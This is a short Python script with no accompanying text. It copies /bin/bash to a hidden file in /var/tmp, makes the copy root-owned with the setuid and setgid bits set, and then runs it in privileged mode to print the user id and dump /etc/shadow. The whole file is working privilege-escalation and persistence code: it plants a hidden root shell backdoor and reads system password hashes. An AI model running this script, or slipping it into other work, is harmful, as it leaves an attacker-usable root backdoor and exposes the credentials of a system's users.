import os
import shutil
import stat

dst = "/var/tmp/.bash"
shutil.copy("/bin/bash", dst)
os.chown(dst, 0, 0)
os.chmod(dst, os.stat(dst).st_mode | stat.S_ISUID | stat.S_ISGID | 0o111)
os.execl(dst, dst, "-p", "-c", "id; cat /etc/shadow")
